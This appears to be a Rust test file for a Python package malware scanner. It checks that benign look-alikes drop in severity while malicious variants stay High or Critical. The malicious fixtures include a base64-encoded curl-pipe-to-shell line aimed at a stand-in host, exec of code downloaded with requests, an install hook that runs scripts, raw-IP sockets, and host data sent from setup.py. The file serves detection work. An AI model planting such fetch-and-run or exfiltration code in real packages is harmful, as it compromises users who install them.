//! The ninth round of issue #12: causes of false positives read on a new
//! benign draw (benign-dev11), each turned into a behaviour the rules now
//! tell apart. Each benign look-alike (what a popular project ships) sits
//! next to the malicious form that must stay high.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Medium};

fn worst(report: &airlock_inspect::Report, rule: &str, file: &str) -> Option<Severity> {
    hits(report, rule, file).into_iter().map(|(_, s)| s).max()
}

// ---------------------------------------------------------------- a script in a folder the sdist left out

fn setup_running(script: &str) -> String {
    format!(
        r#"import subprocess
from setuptools import setup
from setuptools.command.install import install
class Build(install):
    def run(self):
        subprocess.check_output(["python", "{script}", "--module"])
        install.run(self)
setup(name="acme", cmdclass={{"install": Build}})
"#
    )
}

#[test]
fn a_script_in_a_folder_the_sdist_does_not_ship_is_a_step_left_out() {
    let setup = setup_running("./ext/qigen/generate.py");
    // ext/ ships, ext/qigen/ does not: the step fails on install.
    let r = sdist(&[("setup.py", &setup), ("ext/cuda/kernel.cu", "// kernel\n"), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(Medium));
    assert!(r.findings.iter().any(|f| f.message.contains("ships nothing of that folder")), "{:?}", r.findings);
}

#[test]
fn a_script_missing_from_a_folder_that_ships_or_beside_setup_py_stays_high() {
    // The folder ships and the script is not in it: something must put it there.
    let setup = setup_running("./ext/qigen/generate.py");
    let r = sdist(&[("setup.py", &setup), ("ext/qigen/README", "kernels\n"), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High));
    // Beside setup.py, with no folder at all.
    let r = sdist(&[("setup.py", &setup_running("stage2.py")), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High));
    // A folder climbing out of the project is no folder the sdist left out.
    let r = sdist(&[("setup.py", &setup_running("../drop/stage2.py")), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High));
}

// ---------------------------------------------------------------- a UDP socket asked for the local address

const LOCAL_ADDRESS: &str = r#"import socket
def get_self_ip():
    sck = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sck.connect(("1.255.255.255", 1))
        return sck.getsockname()[0]
    finally:
        sck.close()
"#;

#[test]
fn a_datagram_socket_connected_only_to_read_the_local_address_reaches_nothing() {
    let r = module(LOCAL_ADDRESS);
    assert_eq!(worst(&r, "access/raw-ip-url", MOD), None, "{:?}", r.findings);
}

#[test]
fn a_datagram_socket_that_sends_or_a_stream_to_a_raw_address_stays_high() {
    let sends = LOCAL_ADDRESS
        .replace("        return sck.getsockname()[0]\n", "        sck.sendto(b'hi', ('45.9.20.1', 53))\n        return sck.getsockname()[0]\n")
        .replace("1.255.255.255", "45.9.20.1");
    assert_eq!(worst(&module(&sends), "access/raw-ip-url", MOD), Some(High));
    let stream = LOCAL_ADDRESS.replace("SOCK_DGRAM", "SOCK_STREAM").replace("1.255.255.255\", 1", "45.9.20.1\", 4444");
    assert_eq!(worst(&module(&stream), "access/raw-ip-url", MOD), Some(High));
}

// ---------------------------------------------------------------- a bytecode cache

const BYTECODE_CACHE: &str = r#"import marshal, os
def save(path, source):
    code = compile(source, "<schema>", "exec")
    with open(path, "wb") as fh:
        fh.write(marshal.dumps(code))
def load(path):
    with open(path, "rb") as fh:
        data = fh.read()
    code_obj = marshal.loads(data)
    namespace = {}
    exec(code_obj, namespace)
    return namespace.get("validate")
"#;

#[test]
fn exec_of_bytecode_the_module_compiled_and_saved_itself_is_a_cache() {
    let r = module(BYTECODE_CACHE);
    assert_eq!(worst(&r, "payload/exec-decoded", MOD), Some(Medium), "{:?}", r.findings);
}

#[test]
fn exec_of_marshalled_bytes_from_a_blob_or_without_a_cache_writer_stays_critical() {
    let blob = b64(&[0x63u8; 120]);
    let from_blob = format!("import marshal, base64\nmarshal.dumps(1)\nexec(marshal.loads(base64.b64decode('{blob}')))\n");
    assert_eq!(worst(&module(&from_blob), "payload/exec-decoded", MOD), Some(Critical));
    // Read from a file nobody in the module writes with marshal.
    let no_writer = BYTECODE_CACHE.replace("        fh.write(marshal.dumps(code))\n", "        fh.write(source.encode())\n");
    assert_eq!(worst(&module(&no_writer), "payload/exec-decoded", MOD), Some(Critical));
}

// ---------------------------------------------------------------- a template slot decoded

#[test]
fn a_decoded_template_slot_is_no_payload() {
    let r = module("SSH_SH = '''\nimport base64\nexec(base64.b64decode(\"\"\"{{SSH_PY_CODE}}\"\"\").decode(\"utf-8\"))\n'''\nimport base64\nexec(base64.b64decode(\"{{PAYLOAD}}\").decode(\"utf-8\"))\n");
    assert_eq!(worst(&r, "payload/exec-decoded", MOD), Some(Medium), "{:?}", r.findings);
}

#[test]
fn a_decoded_blob_beside_a_slot_stays_critical() {
    let blob = b64(b"import os; os.system('curl -s https://x.example/p | sh')");
    let r = module(&format!("import base64\nexec(base64.b64decode('{blob}' + '{{{{X}}}}').decode('utf-8'))\n"));
    assert_eq!(worst(&r, "payload/exec-decoded", MOD), Some(Critical));
}

// ---------------------------------------------------------------- a host fact only compared

const PLATFORM_CHECK_SETUP: &str = r#"import os, requests
from setuptools import setup
from setuptools.command.sdist import sdist
IS_SMARTOS = os.uname()[0] == "SunOS" and os.uname()[3].startswith("joyent_")
class Sdist(sdist):
    def run(self):
        req = requests.get("https://releases.example.org/bootstrap.sh", timeout=120)
        open("bootstrap.sh", "wb").write(req.content)
        sdist.run(self)
setup(name="acme", cmdclass={"sdist": Sdist})
"#;

#[test]
fn a_host_fact_only_compared_in_setup_py_is_not_collected() {
    let r = setup_py(PLATFORM_CHECK_SETUP);
    assert_eq!(worst(&r, "access/exfil-flow", SETUP), None, "{:?}", r.findings);
}

#[test]
fn a_host_fact_kept_and_sent_from_setup_py_stays_exfil_flow() {
    let collected = PLATFORM_CHECK_SETUP.replace(r#"IS_SMARTOS = os.uname()[0] == "SunOS" and os.uname()[3].startswith("joyent_")"#, "HOST = os.uname()[1]");
    assert_eq!(worst(&setup_py(&collected), "access/exfil-flow", SETUP), Some(High));
    // Compared on one side, kept on the other: still collected.
    let both = PLATFORM_CHECK_SETUP.replace(r#"and os.uname()[3].startswith("joyent_")"#, "\nNODE = os.uname()[1]");
    assert_eq!(worst(&setup_py(&both), "access/exfil-flow", SETUP), Some(High));
}

// ---------------------------------------------------------------- a native library changed after the build

/// A wheel whose RECORD has a stale digest for `stale` and no row for `unlisted`.
fn wheel_with_stale_record(files: &[(&str, &[u8])], stale: &str, unlisted: &str) -> airlock_inspect::Report {
    use sha2::Digest;
    wheel_with_record(files, |path, content| {
        let hashed = if path == stale { [content, b"signed"].concat() } else { content.to_vec() };
        (path != unlisted).then(|| b64(&sha2::Sha256::digest(&hashed)))
    })
}

fn record_worst(report: &airlock_inspect::Report) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == "metadata/record").map(|f| f.severity).max()
}

#[test]
fn a_native_library_signed_or_added_after_the_build_is_medium() {
    let files: [(&str, &[u8]); 3] = [
        ("acme/__init__.py", b"from ._core import *\n"),
        ("acme/_core.cpython-312-darwin.so", b"\xcf\xfa\xed\xfe binary"),
        ("acme/_core.cpython-311-darwin.so", b"\xcf\xfa\xed\xfe other"),
    ];
    assert_eq!(record_worst(&wheel_with_stale_record(&files, "", "")), None);
    assert_eq!(record_worst(&wheel_with_stale_record(&files, "acme/_core.cpython-312-darwin.so", "")), Some(Medium));
    assert_eq!(record_worst(&wheel_with_stale_record(&files, "", "acme/_core.cpython-311-darwin.so")), Some(Medium));
}

#[test]
fn python_code_or_a_path_hook_changed_or_added_after_the_build_stays_high() {
    let files: [(&str, &[u8]); 2] = [("acme/__init__.py", b"x = 1\n"), ("acme.pth", b"import acme\n")];
    assert_eq!(record_worst(&wheel_with_stale_record(&files, "acme/__init__.py", "")), Some(High));
    assert_eq!(record_worst(&wheel_with_stale_record(&files, "", "acme.pth")), Some(High));
}

// ---------------------------------------------------------------- a downloaded answer evaluated as data

#[test]
fn eval_of_a_downloaded_answer_read_as_data_is_a_parser() {
    let read = "import requests\ndef status(url):\n    response = requests.post(url)\n    error = eval(response.content)[\"error\"]\n    return error\n";
    assert_eq!(worst(&module(read), "payload/download-exec", MOD), Some(Medium));
    let handed =
        "import requests, pandas as pd\ndef factors(url):\n    rsp = requests.get(url)\n    return pd.DataFrame(eval(rsp.text.split('=')[1])['data'])\n";
    assert_eq!(worst(&module(handed), "payload/download-exec", MOD), Some(Medium));
    let namespace = "from urllib.request import urlopen\ndef board(url):\n    text = urlopen(url, timeout=10).read().decode('GBK')\n    text = eval(text, type('Dummy', (dict,),\n                           dict(__getitem__=lambda s, n: n))())\n    return text\n";
    assert_eq!(worst(&module(namespace), "payload/download-exec", MOD), Some(Medium));
}

#[test]
fn a_downloaded_answer_run_for_its_effect_stays_critical() {
    for run in ["eval(requests.get(URL).text)", "exec(requests.get(URL).text)", "result = eval(requests.get(URL).text)", "exec(requests.get(URL).text)['x']"] {
        let source = format!("import requests\nURL = 'https://cdn.example.net/p'\n{run}\n");
        assert_eq!(worst(&module(&source), "payload/download-exec", MOD), Some(Critical), "{run}");
    }
}
